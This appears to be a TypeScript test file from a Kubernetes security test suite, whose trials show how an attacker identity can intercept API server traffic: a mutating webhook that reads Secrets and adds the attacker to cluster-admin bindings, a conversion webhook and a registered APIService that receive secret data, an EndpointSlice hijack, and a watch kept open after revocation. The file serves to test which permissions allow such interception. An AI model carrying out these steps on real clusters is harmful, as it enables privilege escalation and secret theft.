// Ways that stand between others and the API server: they see what others send, or what the API server keeps.
import { expect } from 'chai';
import { z } from 'zod';
import { until } from '../../guards/cluster.ts';
import { answered, type Trial } from './setting.ts';

const SECRET = 'the-password-of-production';
const definitions = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions';
const webhooks = '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations';

const reviewSchema = z.object({
  request: z.object({ uid: z.string(), kind: z.object({ kind: z.string() }), object: z.unknown() }),
});
const conversionSchema = z.object({
  request: z.object({ uid: z.string(), desiredAPIVersion: z.string(), objects: z.array(z.looseObject({})) }),
});

/** A kind `Vault`, served in two versions. */
const vaults = (conversion: object) => ({
  apiVersion: 'apiextensions.k8s.io/v1',
  kind: 'CustomResourceDefinition',
  metadata: { name: 'vaults.example.com' },
  spec: {
    group: 'example.com',
    scope: 'Namespaced',
    names: { plural: 'vaults', singular: 'vault', kind: 'Vault', listKind: 'VaultList' },
    conversion,
    versions: ['v1', 'v2'].map((name) => ({
      name,
      served: true,
      storage: name === 'v1',
      schema: { openAPIV3Schema: { type: 'object', properties: { key: { type: 'string' } } } },
    })),
  },
});
const versioned = z.object({ metadata: z.looseObject({ name: z.string(), resourceVersion: z.string() }) });

/** Whether a promise has been kept. */
function kept(promise: Promise<unknown>): () => boolean {
  let done = false;
  promise.then(() => {
    done = true;
  });
  return () => done;
}

export const interception: Record<string, Trial> = {
  'see and change every request by a webhook': async ({ attacker, attackerName, root, namespace, listen }) => {
    const joins = { apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: attackerName };
    const { port, caBundle, heard } = await listen((body) => {
      const { request } = reviewSchema.parse(JSON.parse(body));
      const patch = Buffer.from(JSON.stringify([{ op: 'add', path: '/subjects/-', value: joins }])).toString('base64');
      const change = request.kind.kind === 'ClusterRoleBinding' ? { patchType: 'JSONPatch', patch } : {};
      const response = { uid: request.uid, allowed: true, ...change };
      return { apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', response };
    });
    const common = {
      clientConfig: { url: `https://127.0.0.1:${port}/`, caBundle },
      admissionReviewVersions: ['v1'],
      sideEffects: 'None',
      failurePolicy: 'Ignore',
      matchConditions: [{ name: 'test', expression: `object.metadata.name == 'of-${attackerName}'` }],
    };
    const all = (apiGroups: string[], resources: string[]) => [
      { apiGroups, apiVersions: ['v1'], resources, operations: ['CREATE'] },
    ];
    const body = {
      metadata: { name: 'policy-agent' },
      webhooks: [
        { ...common, name: 'sees.example.com', rules: all([''], ['secrets']) },
        { ...common, name: 'joins.example.com', rules: all(['rbac.authorization.k8s.io'], ['clusterrolebindings']) },
      ],
    };
    await answered(attacker, { method: 'POST', path: webhooks, body });
    try {
      const metadata = { name: `of-${attackerName}` };
      const seen = heard(Buffer.from(SECRET).toString('base64'));
      const secrets = `/api/v1/namespaces/${namespace}/secrets`;
      // The API server calls a webhook a moment after it was stored.
      const body = { metadata, stringData: { password: SECRET } };
      await until(root, { method: 'POST', path: `${secrets}?dryRun=All`, body }, kept(seen));
      const roleRef = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' };
      const subjects = [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'the-new-admin' }];
      const path = '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings';
      await answered(root, { method: 'POST', path, body: { metadata, roleRef, subjects } });
    } finally {
      await root.call({ method: 'DELETE', path: `${webhooks}/policy-agent` });
    }
    return attacker;
  },

  'convert every object of a kind': async ({ attacker, root, namespace, listen }) => {
    await answered(root, { method: 'POST', path: definitions, body: vaults({ strategy: 'None' }) });
    const path = `${definitions}/vaults.example.com`;
    const objects = (version: string) => `/apis/example.com/${version}/namespaces/${namespace}/vaults`;
    const vault = { apiVersion: 'example.com/v1', kind: 'Vault', metadata: { name: 'one' }, key: SECRET };
    await until(root, { method: 'POST', path: objects('v1'), body: vault }, ({ code }) => code === 201);
    const { port, caBundle, heard } = await listen((body) => {
      const { request } = conversionSchema.parse(JSON.parse(body));
      const convertedObjects = request.objects.map((object) => ({ ...object, apiVersion: request.desiredAPIVersion }));
      const response = { uid: request.uid, result: { status: 'Success' }, convertedObjects };
      return { apiVersion: 'apiextensions.k8s.io/v1', kind: 'ConversionReview', response };
    });
    expect((await attacker.call({ method: 'GET', path: `${objects('v1')}/one` })).code).to.equal(403);
    const { metadata } = versioned.parse(await answered(attacker, { method: 'GET', path }));
    const clientConfig = { url: `https://127.0.0.1:${port}/`, caBundle };
    const conversion = { strategy: 'Webhook', webhook: { clientConfig, conversionReviewVersions: ['v1'] } };
    const body = {
      ...vaults(conversion),
      metadata: { name: metadata.name, resourceVersion: metadata.resourceVersion },
    };
    await answered(attacker, { method: 'PUT', path, body });
    try {
      const seen = heard(SECRET);
      // Whoever reads the other version, the controllers of Kubernetes among them.
      await until(root, { method: 'GET', path: objects('v2') }, kept(seen));
      expect((await seen).body).to.contain('ConversionReview');
    } finally {
      await root.call({ method: 'DELETE', path });
    }
    return undefined;
  },

  'serve an API group': async ({ attacker, root, namespace, listen }) => {
    const { port, heard } = await listen(() => ({ apiVersion: 'v1', kind: 'Status', status: 'Success' }));
    const services = `/api/v1/namespaces/${namespace}/services`;
    const service = { metadata: { name: 'reports' }, spec: { type: 'ExternalName', externalName: 'localhost' } };
    await answered(attacker, { method: 'POST', path: services, body: service });
    const apiServices = '/apis/apiregistration.k8s.io/v1/apiservices';
    const spec = {
      group: 'reports.example.com',
      version: 'v1',
      service: { namespace, name: 'reports', port },
      insecureSkipTLSVerify: true,
      groupPriorityMinimum: 1000,
      versionPriority: 15,
    };
    const name = 'v1.reports.example.com';
    await answered(attacker, { method: 'POST', path: apiServices, body: { metadata: { name }, spec } });
    try {
      const path = '/apis/reports.example.com/v1/reports';
      await until(root, { method: 'POST', path, body: { key: SECRET } }, ({ code }) => code === 200);
      const { user } = await heard(SECRET);
      expect(user, 'who sent it').to.equal('root');
    } finally {
      await root.call({ method: 'DELETE', path: `${apiServices}/${name}` });
    }
    return undefined;
  },

  'take over the traffic of a Service': async ({ attacker, root, namespace }) => {
    const path = `/apis/discovery.k8s.io/v1/namespaces/${namespace}/endpointslices`;
    const slice = (address: string) => ({
      apiVersion: 'discovery.k8s.io/v1',
      kind: 'EndpointSlice',
      metadata: { name: 'payments-1', labels: { 'kubernetes.io/service-name': 'payments' } },
      addressType: 'IPv4',
      endpoints: [{ addresses: [address], conditions: { ready: true } }],
      ports: [{ name: '', port: 443, protocol: 'TCP' }],
    });
    await answered(root, { method: 'POST', path, body: slice('192.0.2.1') });
    await answered(attacker, { method: 'PUT', path: `${path}/payments-1`, body: slice('198.51.100.7') });
    const backends = z.object({ endpoints: z.array(z.object({ addresses: z.array(z.string()) })) });
    const { endpoints } = backends.parse(await answered(root, { method: 'GET', path: `${path}/payments-1` }));
    expect(endpoints).to.deep.equal([{ addresses: ['198.51.100.7'] }]);
    return undefined;
  },

  'keep a watch open past the end': async ({ attacker, root, namespace, disarm, stream }) => {
    const path = `/api/v1/namespaces/${namespace}/configmaps`;
    const { said } = await stream(`${path}?watch=true`);
    await disarm();
    await until(attacker, { method: 'GET', path: `${path}?watch=true&timeoutSeconds=1` }, ({ code }) => code === 403);
    await answered(root, { method: 'POST', path, body: { metadata: { name: 'later' }, data: { key: SECRET } } });
    await said(SECRET);
    return undefined;
  },
};
